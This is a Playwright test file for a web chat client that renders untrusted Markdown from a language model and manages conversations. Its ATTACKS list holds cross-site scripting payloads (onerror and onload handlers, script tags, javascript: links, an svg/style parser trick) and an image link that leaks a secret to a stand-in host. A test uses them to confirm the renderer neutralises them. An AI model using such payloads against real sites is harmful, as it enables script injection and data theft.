"""The page in headless Chromium: Markdown that nobody vouches for, and what can be done with conversations."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect

from .fake_server import MARKDOWN, WORDS, FakeServer, serving

ATTACKS = [
    "<img src=x onerror=\"document.body.id='taken'\">\n\n",
    "<script>document.body.id='taken'</script>\n\n",
    "[click](javascript:document.body.id='taken') [data](data:text/html,x) [here](/stats) ",
    "![seen](https://example.org/leak?said=secret)\n\n",
    '```"><img src=x onerror=alert(1)>\n</code></pre><svg/onload=alert(1)>\n```\n\n',
    "<svg><style><!--</style><a id=\"--><img src=x onerror=document.body.id='taken'>\">\n\n",
    "| <b>a</b> |\n|---|\n| <form action=/stats><input name=x></form> |\n",
]


@pytest.fixture
def server() -> Iterator[FakeServer]:
    fake = FakeServer()
    with serving(fake.app) as fake.url:
        yield fake


def say(page: Any, text: str, turns: int = 1) -> None:
    page.get_by_label("Message", exact=True).fill(text)
    page.keyboard.press("Enter")
    expect(page.locator(".figures-line")).to_have_count(turns)


def most_tokens(page: Any, count: int) -> None:
    page.get_by_role("button", name="Settings").click()
    page.get_by_label("Most tokens").fill(str(count))
    page.get_by_role("button", name="Done").click()


def test_markdown_is_rendered_with_its_tokens_marked(server: FakeServer, open_page: Any) -> None:
    page = open_page(server.url)
    say(page, "markdown")
    answer = page.locator(".answer")
    expect(answer.locator("h1")).to_have_text("Sums")
    expect(answer.locator("strong")).to_have_text("both")
    assert answer.locator("td").all_text_contents() == ["1", "2"]
    assert answer.locator("td").nth(1).get_attribute("align") == "right"
    expect(answer.locator("ol li").nth(1)).to_have_text("two & three")
    link = answer.get_by_role("link", name="numbers")
    assert (link.get_attribute("href"), link.get_attribute("target")) == ("https://example.org/a_b", "_blank")
    assert "noopener" in link.get_attribute("rel")
    assert answer.locator("pre").text_content().strip() == "def add(a, b):\n    return a + b  # <sum>"
    expect(answer.locator(".code-head span")).to_have_text("python")
    assert "def" in answer.locator(".hljs-keyword").all_text_contents()
    rounds = [i // 4 for i in range(len(MARKDOWN))]
    for span in answer.locator(".tok").all():
        token = int(span.get_attribute("data-token"))
        text = span.text_content().strip()
        assert all(word in MARKDOWN[token] or word == "&" for word in text.split())
        assert int(span.get_attribute("data-round")) == rounds[token]


def test_hostile_markdown_stays_harmless(server: FakeServer, open_page: Any) -> None:
    server.written = ATTACKS
    page = open_page(server.url)
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    say(page, "write")
    answer = page.locator(".answer")
    assert answer.locator("img, script, svg, style, form, input, iframe, b").count() == 0
    assert [a.get_attribute("href") for a in answer.locator("a[href]").all()] == [
        "https://example.org/leak?said=secret"
    ]
    names = "[...document.querySelectorAll('.answer *')].flatMap((one) => one.getAttributeNames())"
    allowed = {"align", "aria-label", "class", "data-language", "data-round", "data-token", "href", "rel", "tabindex",
               "target", "type"}  # fmt: skip
    assert set(page.evaluate(names)) <= allowed
    assert page.evaluate("document.body.id") == ""
    assert "<img src=x onerror" in answer.text_content()
    assert not [url for url in asked if "example.org" in url]


def test_markdown_nested_too_deeply_is_shown_as_text(server: FakeServer, open_page: Any) -> None:
    server.written = [">" * 20_000, " deep"]
    page = open_page(server.url)
    say(page, "write")
    expect(page.locator(".answer")).to_contain_text("deep")


def test_a_conversation_survives_a_reload(server: FakeServer, open_page: Any) -> None:
    page = open_page(server.url)
    say(page, "first")
    figures = page.locator(".figures-line").text_content()
    page.reload()
    expect(page.locator(".figures-line")).to_have_text(figures)
    expect(page.locator(".answer .tok.drafted")).not_to_have_count(0)
    page.locator(".answer .tok").first.focus()
    expect(page.locator("#round-summary")).to_contain_text("3 of them drafted")
    say(page, "second", 2)
    assert [message["content"] for message in server.bodies[1]["messages"]] == ["first", "".join(WORDS), "second"]
    page.get_by_role("button", name="New conversation").click()
    say(page, "third")
    page.get_by_role("button", name="Conversations").click()
    assert page.locator("#history-list strong").all_text_contents() == ["third", "first"]
    page.locator(".entry", has_text="first").click()
    expect(page.locator(".said")).to_have_text(["first", "second"])
    page.get_by_role("button", name="Conversations").click()
    page.get_by_role("button", name="Delete “first”").click()
    expect(page.locator(".said")).to_have_count(0)
    expect(page.locator("#history-list li")).to_have_count(1)


def test_answering_anew_and_changing_a_message(server: FakeServer, open_page: Any) -> None:
    page = open_page(server.url)
    say(page, "first")
    say(page, "second", 2)
    page.get_by_role("button", name="Regenerate").last.click()
    expect(page.locator(".figures-line").last).to_contain_text(
        "temperature 0.7, seed 1: at 0 the answer would be the same"
    )
    sampled = [(body["temperature"], body["seed"]) for body in server.bodies]
    assert sampled == [(0, 0), (0, 0), (0.7, 1)]
    assert server.bodies[2]["messages"] == server.bodies[1]["messages"]
    page.get_by_role("button", name="Edit the message").first.click()
    page.get_by_label("Edited message").fill("changed")
    page.keyboard.press("Enter")
    expect(page.locator(".said")).to_have_text(["changed"])
    expect(page.locator(".figures-line")).to_have_count(1)
    assert server.bodies[3]["messages"] == [{"role": "user", "content": "changed"}]
    page.get_by_role("button", name="Edit the message").click()
    page.keyboard.press("Escape")
    expect(page.locator(".said")).to_have_text(["changed"])


def test_a_cut_answer_goes_on(server: FakeServer, open_page: Any) -> None:
    page = open_page(server.url)
    most_tokens(page, 4)
    say(page, "first")
    expect(page.locator(".notice")).to_contain_text("Cut off at 4 tokens, the limit in the settings.")
    page.get_by_role("button", name="Continue").click()
    expect(page.locator(".figures-line")).to_contain_text("8 tokens")
    expect(page.locator(".answer")).to_contain_text("The eagle sees its And so on.")
    body = server.bodies[1]
    assert (body["continue_final_message"], body["add_generation_prompt"]) == (True, False)
    assert body["messages"][-1] == {"role": "assistant", "content": "The eagle sees its"}
    expect(page.get_by_role("button", name="Continue")).to_have_count(0)


def test_a_full_context_is_told(server: FakeServer, open_page: Any) -> None:
    page = open_page(server.url)
    say(page, "full")
    assert "max_tokens" not in server.bodies[0]
    expect(page.locator(".notice")).to_contain_text("the model's context is full")
    expect(page.get_by_role("button", name="Continue")).to_have_count(0)


def test_two_tabs_go_on_with_one_conversation_as_two(server: FakeServer, open_page: Any) -> None:
    page = open_page(server.url)
    say(page, "first")
    other = page.context.new_page()
    other.goto(server.url)
    other.get_by_role("button", name="Conversations").click()
    other.locator(".entry", has_text="first").click()
    say(other, "there", 2)
    say(page, "here", 2)
    page.get_by_role("button", name="Conversations").click()
    expect(page.locator("#history-list li")).to_have_count(2)
    page.locator(".entry").last.click()
    expect(page.locator(".said")).to_have_text(["first", "there"])


def test_conversations_are_saved_as_files(server: FakeServer, open_page: Any) -> None:
    page = open_page(server.url)
    say(page, "first")
    page.get_by_role("button", name="Conversations").click()
    texts = {}
    for kind in ("Markdown", "JSON"):
        with page.expect_download() as download:
            page.get_by_role("button", name=f"Save “first” as {kind}").click()
        texts[kind] = Path(download.value.path()).read_text(encoding="utf-8")
    assert texts["Markdown"].startswith("# first\n\nModel: fake-model\n\n## User\n\nfirst\n\n## Assistant\n\nThe eagle")
    body = json.loads(texts["JSON"])
    assert body["model"] == "fake-model"
    assert [message["role"] for message in body["messages"]] == ["user", "assistant"]


def test_copying(server: FakeServer, open_page: Any) -> None:
    page = open_page(server.url, permissions=["clipboard-read", "clipboard-write"])
    say(page, "markdown")
    read = "navigator.clipboard.readText()"
    page.get_by_role("button", name="Copy the answer").click()
    expect(page.get_by_role("button", name="Copy the answer")).to_have_text("Copied")
    assert page.evaluate(read) == "".join(MARKDOWN)
    page.get_by_role("button", name="Copy the code").click()
    expect(page.get_by_role("button", name="Copy the code")).to_have_text("Copied")
    assert page.evaluate(read).strip() == "def add(a, b):\n    return a + b  # <sum>"


def test_theme_and_marks_are_kept(server: FakeServer, open_page: Any) -> None:
    page = open_page(server.url, color_scheme="light")
    ground = "getComputedStyle(document.body).backgroundColor"
    light = page.evaluate(ground)
    say(page, "first")
    for _ in range(2):
        page.locator("#theme").click()
    assert page.evaluate(ground) != light
    page.get_by_label("Mark drafted tokens").uncheck()
    page.reload()
    assert page.evaluate(ground) != light
    drafted = page.locator(".answer .tok.drafted").first
    assert drafted.evaluate("(one) => getComputedStyle(one).backgroundColor") == "rgba(0, 0, 0, 0)"


def test_nothing_is_marked_where_nothing_is_drafted(server: FakeServer, open_page: Any) -> None:
    server.drafts = False
    page = open_page(server.url)
    say(page, "first")
    assert page.locator(".answer .drafted").count() == 0
    styles = "[...document.querySelectorAll('.answer .tok')].map((one) => getComputedStyle(one).textDecorationLine)"
    assert set(page.evaluate(styles)) == {"none"}
    expect(page.locator(".figures-line")).not_to_contain_text("a pass")


def test_tokens_a_pass_are_the_servers(server: FakeServer, open_page: Any) -> None:
    page = open_page(server.url)
    say(page, "first")
    expect(page.locator(".figures-line")).to_contain_text("3.75 tokens per pass")  # 14 tokens in 4 rounds would be 3.50


@pytest.mark.parametrize(
    ("model", "name"),
    [("/models/smol/target", "target"), ("org/model-1B", "org/model-1B"),
     ("/root/hub/models--org--model-1B/snapshots/0123abcd", "org/model-1B")],
)  # fmt: skip
def test_the_model_goes_by_its_name(open_page: Any, model: str, name: str) -> None:
    fake = FakeServer(model=model)
    with serving(fake.app) as url:
        page = open_page(url)
        expect(page.locator("#model")).to_have_text(name)
        assert page.locator("#model").get_attribute("title") == model
